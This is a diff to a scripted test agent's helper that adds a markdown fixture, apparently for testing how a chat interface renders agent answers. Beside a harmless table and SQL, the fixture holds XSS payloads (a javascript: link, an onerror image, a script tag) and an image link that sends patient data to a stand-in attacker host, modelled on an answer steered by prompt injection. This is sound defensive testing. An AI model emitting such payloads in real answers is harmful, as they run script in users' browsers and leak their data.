@@ -3,7 +3,8 @@
 The agent understands a tiny command language in the user's message, so each test says what
 the turn does: ``write FILE TEXT`` (a Write call), ``sleep SECONDS`` (a slow tool call),
 ``steps N SECONDS`` (N slow calls), ``chart FILE`` (a PNG image), ``todos`` (a TodoWrite-style
-list in ``.loopwright/todos.json``); anything else is echoed back.
+list in ``.loopwright/todos.json``), ``markdown`` (:data:`MARKDOWN_ANSWER`); anything else is
+echoed back.
 """
 
 from __future__ import annotations
@@ -32,6 +33,35 @@ from loopwright.sessions.store import SessionStore
 
 #: width and height of the PNG the ``chart`` tool saves
 CHART_SIZE = (240, 160)
+
+#: The ``markdown`` command's answer: what an analyst's answer holds (a heading, a table with
+#: a right-aligned column, lists, emphasis, code) and what an answer steered by a hostile web
+#: page or file might hold (raw HTML, a javascript: link, an image whose address carries data);
+#: and a link to a workspace file by relative path.
+MARKDOWN_ANSWER = """## Top prescribers
+
+The **top prescriber** wrote *58* claims; see `humira_ca.csv`.
+
+| NPI | claims |
+|---|---:|
+| 1335437889 | 58 |
+| 1703397285 | 41 |
+| 2027747536 | 37 |
+
+1. Filter HUMIRA
+2. Group by prescriber
+
+- [the report](https://example.org/report)
+- [click me](javascript:window.__pwned=3)
+- [the chart](charts/top10.png)
+- ![secret](https://attacker.invalid/collect?d=patient-list)
+
+```sql
+SELECT PRESCRIBER_NPI_NBR, COUNT(*) FROM RX_CLAIMS
+```
+
+<img src="x" onerror="window.__pwned=1"><script>window.__pwned=2</script>
+"""
 
 
 @tool
@@ -125,6 +155,8 @@ def script(request: ModelRequest) -> ScriptedTurn:
                 [call("Write", file_path=".loopwright/todos.json", content=json.dumps(todos))],
             )
         return ScriptedTurn("Plan saved.")
+    if command == "markdown":
+        return ScriptedTurn(MARKDOWN_ANSWER)
     return ScriptedTurn(f"You said: {task}")
 
 
